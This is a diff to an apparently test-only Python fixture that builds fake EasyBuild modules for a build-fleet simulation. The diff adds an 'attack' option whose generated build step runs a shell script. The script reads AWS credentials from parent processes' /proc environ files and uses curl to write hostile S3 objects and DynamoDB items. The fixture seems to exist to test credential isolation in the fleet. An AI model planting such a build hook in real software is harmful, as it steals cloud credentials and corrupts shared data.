@@ -5,6 +5,7 @@ modules' `$EBROOT<NAME>`). SYSTEM toolchain, `MakeCp`, sources as plain tar
 files in the bucket's `sources/`, as a real stack keeps them."""
 
 import io
+import json
 import tarfile
 
 
@@ -28,13 +29,18 @@ class Module:
     scripts ({name: text}) installed beside its program; `device_code`
     embeds `fake-cuda-arch=<sm>` for each compute capability EasyBuild
     builds for (its `%(cuda_sm_space_sep)s`), as a stand-in for CUDA device
-    code."""
+    code; `attack` makes its build a hostile one: it takes the AWS
+    credentials of the node it runs on (from the agent's environment, as
+    root can read it) and writes each of `attack`'s targets with them —
+    ("s3", key) an object of the bucket, ("dynamodb", item) an item of the
+    table — then fails, printing what each write was answered."""
 
     def __init__(self, name, deps=(), compiles=True, hungry=False, version="1.0", resident_mib=0,
-                 tools=None, device_code=False):
+                 tools=None, device_code=False, attack=()):
         self.name, self.deps, self.compiles, self.hungry = name, list(deps), compiles, hungry
         self.version, self.resident_mib = version, resident_mib
         self.tools, self.device_code = dict(tools or {}), device_code
+        self.attack = list(attack)
 
     @property
     def module(self):
@@ -111,14 +117,53 @@ class Module:
                         if self.resident_mib
                         else ""
                     )
+                    + ("\tsh ./attack.sh\n" if self.attack else "")
                     + f"\t$(CC) -O2{flags}{flags_dc} -c {n}.c\n"
                     f"\tar rcs lib{n}.a {n}.o\n"
                     f"\t$(CC) -O2 -o {n} main.c lib{n}.a{libs}\n"
                 ),
                 **self.tools,
+                **({"attack.sh": _attack(self.attack)} if self.attack else {}),
             },
             executables=self.tools,
         )
+
+
+def _attack(targets):
+    """A build step that writes each target with its node's credentials."""
+    writes = []
+    for kind, target in targets:
+        if kind == "s3":
+            writes.append(f'try "PUT s3 {target}" --aws-sigv4 aws:amz:us-east-1:s3 -X PUT --data-binary hostile '
+                          f'"$AWS_ENDPOINT_URL/$EBFLEET_BUCKET/{target}"')
+        else:
+            item = json.dumps({k: {"S": v} for k, v in target.items()} | {"status": {"S": "built"}})
+            writes.append(f"item='{item}'")
+            writes.append(f"try \"PutItem {target['sk']}\" --aws-sigv4 aws:amz:us-east-1:dynamodb "
+                          "-H 'Content-Type: application/x-amz-json-1.0' -H 'X-Amz-Target: DynamoDB_20120810.PutItem' "
+                          '--data "{\\"TableName\\":\\"$EBFLEET_TABLE\\",\\"Item\\":$item}" "$AWS_ENDPOINT_URL/"')
+    return (
+        "#!/bin/sh\n"
+        "# Find the node's credentials where root can: the environment of the\n"
+        "# process above that holds them (on EC2 it would be IMDS).\n"
+        "pid=$$\n"
+        "while [ \"$pid\" -gt 1 ]; do\n"
+        "  if tr '\\0' '\\n' < /proc/$pid/environ | grep -q '^AWS_ENDPOINT_URL='; then\n"
+        "    eval \"$(tr '\\0' '\\n' < /proc/$pid/environ | grep -E '^(AWS_ENDPOINT_URL|AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|EBFLEET_BUCKET|EBFLEET_TABLE)=' | sed \"s/=\\(.*\\)/='\\1'/; s/^/export /\")\"\n"
+        "    break\n"
+        "  fi\n"
+        "  pid=$(awk '/^PPid:/ {print $2}' /proc/$pid/status)\n"
+        "done\n"
+        "[ -n \"$AWS_ENDPOINT_URL\" ] || { echo 'attack: no credentials found' >&2; exit 1; }\n"
+        "try() {\n"
+        "  what=$1; shift\n"
+        "  code=$(curl -s -o /dev/null -w '%{http_code}' --user \"$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY\" \"$@\")\n"
+        "  echo \"attack: $what: HTTP $code\" >&2\n"
+        "}\n"
+        + "".join(f"{w}\n" for w in writes)
+        + "echo 'attack: done; this build fails' >&2\n"
+        "exit 1\n"
+    )
 
 
 # The stack the scenarios grow, in the order they upload it.
